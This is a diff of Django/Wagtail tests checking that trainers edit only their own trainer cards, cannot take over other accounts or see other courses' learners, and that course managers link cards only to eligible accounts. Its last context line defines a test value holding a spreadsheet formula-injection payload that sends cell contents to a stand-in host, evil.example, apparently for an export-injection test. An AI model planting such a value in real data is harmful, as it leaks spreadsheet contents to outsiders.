@@ -203,6 +203,108 @@ def test_trainers_upload_and_choose_images_and_documents(client, catalogue):
     assert client.get(reverse("wagtailimages:edit", args=[other.pk])).status_code == 302
 
 
+def trainer_card_form(card, **changes) -> dict:
+    return {"name": card.name, "bio": card.bio, "photo": "", **changes}
+
+
+def test_a_trainer_edits_only_their_own_card_and_never_its_account(client, catalogue):
+    """Linking someone else's card to oneself opened that course's learners."""
+    tina = staff(TRAINERS, full_name="Tina Trainer")
+    ana_user = staff(TRAINERS, full_name="Ana Author")
+    tina_card = Trainer.objects.create(name="Tina Trainer", user=tina)
+    ana_card = Trainer.objects.create(name="Ana Author", user=ana_user)
+    course, _ = build_course(parent=catalogue, title="Ana's course")
+    course.trainers.add(ana_card)
+    course.save_revision().publish()
+    services.enrolment_create(
+        user=UserFactory(full_name="Lara Learner", email="lara@example.com"),
+        course=course,
+    )
+    client.force_login(tina)
+
+    # Someone else's card: neither the form nor a save.
+    edit_ana = reverse("wagtailsnippets_courses_trainer:edit", args=[ana_card.pk])
+    assert client.get(edit_ana).status_code == 302
+    response = client.post(edit_ana, trainer_card_form(ana_card, user=tina.pk))
+    assert response.status_code == 302
+    assert response.url == reverse("wagtailadmin_home")
+    ana_card.refresh_from_db()
+    assert ana_card.user == ana_user
+
+    # Their own card: the text, not the account (no select of every account).
+    edit_own = reverse("wagtailsnippets_courses_trainer:edit", args=[tina_card.pk])
+    form_page = client.get(edit_own)
+    assert form_page.status_code == 200
+    assert "user" not in form_page.context["form"].fields
+    assert "Lara Learner" not in form_page.content.decode()
+    assert "Ana Author" not in form_page.content.decode()
+    response = client.post(
+        edit_own, trainer_card_form(tina_card, name="Tina T.", user=ana_user.pk)
+    )
+    assert response.status_code == 302
+    tina_card.refresh_from_db()
+    assert (tina_card.name, tina_card.user) == ("Tina T.", tina)
+
+    # The list links to the card they may edit only.
+    listing = client.get(reverse("wagtailsnippets_courses_trainer:list"))
+    assert edit_own in listing.content.decode()
+    assert edit_ana not in listing.content.decode()
+
+    # A new card made by a trainer is linked to no account.
+    client.post(
+        reverse("wagtailsnippets_courses_trainer:add") + "?locale=en",
+        trainer_card_form(Trainer(name="Ana Author"), user=tina.pk),
+    )
+    assert list(
+        Trainer.objects.filter(name="Ana Author").values_list("user", flat=True)
+    ) == [ana_user.pk, None]
+
+    page = client.get(reverse("courses_learners")).content.decode()
+    assert "Lara Learner" not in page and "lara@example.com" not in page
+
+
+def test_a_course_manager_links_cards_to_accounts_that_may_teach(client, catalogue):
+    manager = staff(COURSE_MANAGERS, full_name="Maja Manager")
+    tina = staff(TRAINERS, full_name="Tina Trainer")
+    lara = UserFactory(full_name="Lara Learner")
+    card = Trainer.objects.create(name="Tina Trainer")
+    client.force_login(manager)
+    edit = reverse("wagtailsnippets_courses_trainer:edit", args=[card.pk])
+
+    choices = client.get(edit).context["form"].fields["user"].queryset
+    # Those who may teach (and the administrators), not every learner.
+    assert {manager, tina} <= set(choices)
+    assert lara not in choices
+    assert all(user.is_superuser or user.groups.exists() for user in choices)
+    response = client.post(edit, trainer_card_form(card, user=tina.pk))
+    assert response.status_code == 302
+    card.refresh_from_db()
+    assert card.user == tina
+    # An account that may not teach is refused next to the field.
+    response = client.post(edit, trainer_card_form(card, user=lara.pk))
+    assert response.status_code == 200
+    assert "user" in response.context["form"].errors
+    card.refresh_from_db()
+    assert card.user == tina
+
+
+def test_the_course_form_offers_each_trainer_once(client, catalogue):
+    """A trainer has a card per language; the course form listed both."""
+    from wagtail.models import Locale
+
+    english = Trainer.objects.create(
+        name="Tina Trainer", locale=Locale.objects.get(language_code="en")
+    )
+    english.copy_for_translation(Locale.objects.get(language_code="sl")).save()
+    course, _ = build_course(parent=catalogue, title="My course")
+    client.force_login(UserFactory(is_superuser=True, is_staff=True))
+
+    form = client.get(reverse("wagtailadmin_pages:edit", args=[course.pk])).context[
+        "form"
+    ]
+    assert list(form.fields["trainers"].queryset) == [english]
+
+
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B3,"Ana")'
 
 
